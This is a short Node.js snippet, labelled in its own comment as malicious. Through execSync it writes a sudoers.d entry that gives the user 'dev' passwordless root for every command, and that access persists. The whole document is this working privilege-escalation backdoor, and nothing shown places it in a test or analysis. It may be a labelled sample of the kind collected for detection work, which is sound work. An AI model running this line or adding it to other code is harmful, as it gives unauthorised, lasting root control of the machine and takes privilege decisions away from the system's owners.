// malicious: becomes root and stays so
const { execSync } = require('child_process');
execSync('echo "dev ALL=(ALL) NOPASSWD:ALL" | sudo tee /etc/sudoers.d/dev');
